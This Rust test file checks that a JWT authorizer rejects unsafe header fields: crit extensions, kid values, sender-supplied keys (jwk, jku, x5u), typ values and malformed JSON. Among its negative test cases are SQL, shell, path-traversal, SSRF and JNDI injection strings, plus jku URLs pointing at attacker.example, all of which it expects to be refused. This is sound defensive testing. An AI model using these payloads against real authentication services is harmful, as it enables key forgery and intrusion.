//! The header is read before anything is known of the sender. It may choose among known keys, and nothing more.

use serde_json::{Value, json};
use tower_lambda_authorizer::jwt::JwtReason;
use tower_lambda_authorizer::testing::{TestKey, TestToken};

use crate::homes::{Home, OTHER_ISS, a, b, but, good, headed, header_but, with};
use crate::table::Table;

pub fn rows(table: &mut Table) {
    extensions(table);
    kids(table);
    kids_of_issuers(table);
    keys_of_the_sender(table);
    types(table);
    not_an_object(table);
}

fn extensions(table: &mut Table) {
    table.class("extension");
    let two = Home::two_keys();
    for value in [
        json!(["exp"]),
        json!(["b64"]),
        json!(["alg"]),
        json!(["https://example.com/unknown"]),
        json!([]),
        json!([1]),
        json!("b64"),
        json!({}),
        json!(true),
        Value::Null,
    ] {
        table.refuses(JwtReason::Extension, format!("crit {value}"), &two, header_but("crit", value));
    }
    let known =
        TestToken::new(&good()).with_header("crit", json!(["exp"])).with_header("exp", 1).signed_by(&a());
    table.refuses(JwtReason::Extension, "crit with the member it names", &two, known);
    for value in [json!(false), json!(true), json!("false"), Value::Null] {
        table.refuses(JwtReason::Extension, format!("b64 {value}"), &two, header_but("b64", value));
    }
    for value in [json!("DEF"), json!("GZ"), json!(""), Value::Null] {
        table.refuses(JwtReason::Extension, format!("zip {value}"), &two, header_but("zip", value));
    }
    let both =
        TestToken::new(&good()).with_header("crit", json!(["b64"])).with_header("b64", false).signed_by(&a());
    table.refuses(JwtReason::Extension, "crit b64, as RFC 7797 has it", &two, both);
    let escaped = headed(r#"{"alg":"RS256","kid":"a","cr\u0069t":["exp"]}"#);
    table.refuses(JwtReason::Extension, "crit, escaped", &two, escaped);
    table.accepts("`Crit` is nobody's", &two, headed(r#"{"alg":"RS256","kid":"a","Crit":["exp"]}"#));
    table.accepts("cty JWT around claims", &two, header_but("cty", "JWT"));
    table.accepts("members that nobody knows", &two, header_but("nonce", json!([{ "a": null }])));
    table.accepts("members of encryption", &two, header_but("enc", "A256GCM"));
}

fn kids(table: &mut Table) {
    table.class("kid");
    let (two, one, pem) = (Home::two_keys(), Home::one_key(), Home::pem());
    table.accepts("the second key", &two, b().token(&good()));
    table.accepts("escaped letters are letters", &two, headed(r#"{"alg":"RS256","kid":"\u0061"}"#));
    let missing = TestToken::new(&good()).without_header("kid").signed_by(&a());
    table.refuses(JwtReason::Key, "missing, two keys", &two, missing.clone());
    table.accepts("missing, one key", &one, missing.clone());
    table.accepts("missing, a key without a name", &pem, missing);
    table.accepts("any, a key without a name", &pem, header_but("kid", "whatever"));
    table.refuses(JwtReason::Key, "unknown, one key", &one, header_but("kid", "b"));
    table.refuses(JwtReason::Key, "empty, one key", &one, header_but("kid", ""));
    table.refuses(JwtReason::Signature, "the name of the other key", &two, header_but("kid", "b"));
    for kid in [
        "",
        "A",
        " a",
        "a ",
        "a\u{0}",
        "a\n",
        "a\u{0}b",
        "ａ",
        "а",
        "aa",
        "a,b",
        "*",
        "0",
        "null",
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "a' UNION SELECT 'secret' -- ",
        "'; DROP TABLE keys; --",
        "a|/usr/bin/id",
        "$(id)",
        "%2e%2e%2fa",
        "https://attacker.example/jwks.json",
        "//attacker.example/a",
        "http://127.0.0.1:1/a",
        "{\"alg\":\"none\"}",
        "${jndi:ldap://attacker.example/a}",
        "__proto__",
    ] {
        table.refuses(JwtReason::Key, format!("{kid:?}"), &two, header_but("kid", kid));
    }
    table.refuses(JwtReason::Key, "of 256 bytes", &two, header_but("kid", "k".repeat(256)));
    table.refuses(JwtReason::Malformed, "of 257 bytes", &two, header_but("kid", "k".repeat(257)));
    table.refuses(JwtReason::Malformed, "of 4,000 bytes", &two, header_but("kid", "k".repeat(4000)));
    for value in [Value::Null, json!(0), json!(1.5), json!(true), json!(["a"]), json!({ "a": "a" })] {
        table.refuses(JwtReason::Malformed, value.to_string(), &two, header_but("kid", value.clone()));
        table.refuses(JwtReason::Malformed, value.to_string(), &pem, header_but("kid", value));
    }
    for header in [
        r#"{"alg":"RS256","kid":"a","kid":"b"}"#,
        r#"{"alg":"RS256","kid":"b","kid":"a"}"#,
        r#"{"alg":"RS256","kid":"a","kid":"a"}"#,
        r#"{"alg":"RS256","kid":"a","\u006bid":"a"}"#,
        r#"{"alg":"RS256","kid":"\ud800"}"#,
    ] {
        table.refuses(JwtReason::Malformed, header, &two, headed(header));
    }
}

fn kids_of_issuers(table: &mut Table) {
    table.class("kid of another issuer");
    let issuers = Home::two_issuers();
    let other_claims = but("iss", OTHER_ISS);
    let o = TestKey::rs256("o").other();
    let (same, same_of_other) = (TestKey::rs256("same"), TestKey::rs256("same").other());
    table.accepts("the first issuer's", &issuers, a().token(&good()));
    table.accepts("the second issuer's", &issuers, o.token(&other_claims));
    table.accepts("one name for two keys, the first's", &issuers, same.token(&good()));
    table.accepts("one name for two keys, the second's", &issuers, same_of_other.token(&other_claims));
    table.refuses(JwtReason::Key, "the second's key for the first's name", &issuers, o.token(&good()));
    table.refuses(
        JwtReason::Key,
        "the first's key for the second's name",
        &issuers,
        a().token(&other_claims),
    );
    let signature = JwtReason::Signature;
    table.refuses(signature, "one name for two keys, the wrong one", &issuers, same_of_other.token(&good()));
    table.refuses(signature, "one name for two keys, wrong again", &issuers, same.token(&other_claims));
}

/// Keys that come along with a token prove that whoever made the token has a key.
fn keys_of_the_sender(table: &mut Table) {
    table.class("key in the header");
    let two = Home::two_keys();
    let mine = TestKey::rs256("mine").other();
    let mut sent = |name: &str, member: &str, value: Value| {
        let forged = |kid: &str| {
            TestToken::new(&good())
                .with_header(member, value.clone())
                .with_header("kid", kid)
                .signed_by(&mine)
        };
        table.refuses(JwtReason::Signature, format!("{name}, under a known name"), &two, forged("a"));
        table.refuses(JwtReason::Key, format!("{name}, under its own"), &two, forged("mine"));
        table.accepts(format!("{name}, beside a right signature"), &two, header_but(member, value));
    };
    let jwk = mine.public_jwk();
    sent("jwk", "jwk", jwk.clone());
    sent("jwk under a known name", "jwk", with(jwk.clone(), "kid", "a"));
    sent("jwk, symmetric", "jwk", json!({ "kty": "oct", "k": "AAAA", "kid": "a" }));
    sent("jwk, no object", "jwk", json!("a"));
    sent("jwks", "jwks", json!({ "keys": [jwk] }));
    sent("jku", "jku", json!("https://attacker.example/jwks.json"));
    sent(
        "jku that begins like the issuer's",
        "jku",
        json!("https://issuer.example@attacker.example/jwks.json"),
    );
    sent("jku, no address", "jku", json!(["file:///etc/passwd"]));
    sent("x5u", "x5u", json!("https://attacker.example/chain.pem"));
    sent("x5c", "x5c", json!(["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]));
    sent("x5t", "x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA"));
    sent("x5t#S256", "x5t#S256", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"));
    sent("iss", "iss", json!("https://attacker.example"));
    sent("secret", "secret", json!("secret"));
}

fn types(table: &mut Table) {
    table.class("typ");
    let two = Home::two_keys();
    table.accepts("missing", &two, TestToken::new(&good()).without_header("typ").signed_by(&a()));
    for kind in [
        "JWT",
        "jwt",
        "jWt",
        "at+jwt",
        "AT+JWT",
        "application/jwt",
        "APPLICATION/JWT",
        "application/at+jwt",
        "Application/At+Jwt",
    ] {
        table.accepts(kind, &two, header_but("typ", kind));
    }
    for kind in [
        "",
        "JWS",
        "JOSE",
        "JOSE+JSON",
        "JWE",
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "kb+jwt",
        "vc+sd-jwt",
        "client-authentication+jwt",
        "rt+jwt",
        "id_token+jwt",
        "application/logout+jwt",
        "application/",
        "application/application/jwt",
        "text/jwt",
        "application/json",
        "at+jwt ",
        " JWT",
        "JWT\u{0}",
        "at+jwt; charset=utf-8",
        "JWT,at+jwt",
        "ＪＷＴ",
    ] {
        table.refuses(JwtReason::Type, format!("{kind:?}"), &two, header_but("typ", kind));
    }
    for value in [Value::Null, json!(1), json!(true), json!(["JWT"]), json!({})] {
        table.refuses(JwtReason::Type, value.to_string(), &two, header_but("typ", value));
    }
    let twice = headed(r#"{"alg":"RS256","kid":"a","typ":"JWT","typ":"logout+jwt"}"#);
    table.refuses(JwtReason::Malformed, "JWT and logout+jwt", &two, twice);
}

fn not_an_object(table: &mut Table) {
    table.class("header");
    let two = Home::two_keys();
    table.accepts("spaces in the JSON", &two, headed("\n{ \"alg\" :\t\"RS256\", \"kid\": \"a\" }\r\n"));
    let nested = |levels: usize| {
        let (open, close) = ("[".repeat(levels), "]".repeat(levels));
        headed(format!(r#"{{"alg":"RS256","kid":"a","x":{open}{close}}}"#))
    };
    // In the object that the header is.
    table.accepts("nested 127 deep", &two, nested(126));
    table.refuses(JwtReason::Malformed, "nested 128 deep", &two, nested(127));
    table.refuses(JwtReason::Malformed, "nested two thousand times", &two, nested(2000));
    for header in [
        "",
        "null",
        "true",
        "7",
        r#""RS256""#,
        "[]",
        r#"[{"alg":"RS256","kid":"a"}]"#,
        r#"{"alg":"RS256","kid":"a""#,
        r#"{"alg":"RS256","kid":"a"}}"#,
        r#"{"alg":"RS256","kid":"a"}{}"#,
        r#"{"alg":"RS256","kid":"a"} x"#,
        r#"{"alg":"RS256","kid":"a",}"#,
        r#"{"alg":"RS256" "kid":"a"}"#,
        "{'alg':'RS256','kid':'a'}",
        r#"{alg:"RS256",kid:"a"}"#,
        r#"{"alg":"RS256","kid":"a"/**/}"#,
        "\u{feff}{\"alg\":\"RS256\",\"kid\":\"a\"}",
        "\u{0}{\"alg\":\"RS256\",\"kid\":\"a\"}",
        "{\"alg\":\"RS256\",\"kid\":\"a\",\"x\":\"\u{1}\"}",
        r#"{"alg":"RS256","kid":"a","x":NaN}"#,
        r#"{"alg":"RS256","kid":"a","x":01}"#,
        r#"{"alg":"RS256","kid":"a","x":1,"x":1}"#,
        r#"{"alg":"RS256","kid":"a","x":{"y":1,"y":2}}"#,
    ] {
        table.refuses(JwtReason::Malformed, format!("{header:?}"), &two, headed(header));
    }
}
